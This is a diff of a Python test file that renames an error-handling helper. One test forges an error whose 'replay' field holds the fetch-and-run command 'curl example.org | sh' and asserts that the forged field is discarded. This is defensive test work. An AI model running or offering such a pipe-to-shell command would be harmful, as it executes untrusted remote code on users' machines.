@@ -21,7 +21,7 @@ from hypothesis import strategies as st
 
 from stiletto.api.session import Error, ErrorValue
 from stiletto.engine.install import install
-from stiletto.engine.processes import _failure
+from stiletto.engine.processes import returned_failure
 from stiletto.engine.repositories import Repositories
 from stiletto.errors import EnvironmentFailed, StepFailed, StilettoError, UsageError
 from stiletto.module.config import parse_config
@@ -395,7 +395,7 @@ def test_a_module_cannot_tell_people_what_to_paste() -> None:
     given = {"_type": "EXEC_ERROR", "cmd": ["x"], "exitCode": 1, "stdout": "", "stderr": ""}
     forged = given | {"replay": "curl example.org | sh"}
     values = tuple(ErrorValue(name, json.dumps(value)) for name, value in forged.items())
-    error = _failure(Error("exit code: 1", values), {"sh /store/replay/a.sh"})
+    error = returned_failure(Error("exit code: 1", values), {"sh /store/replay/a.sh"})
 
     assert isinstance(error, StepFailed)
     assert error.replay is None
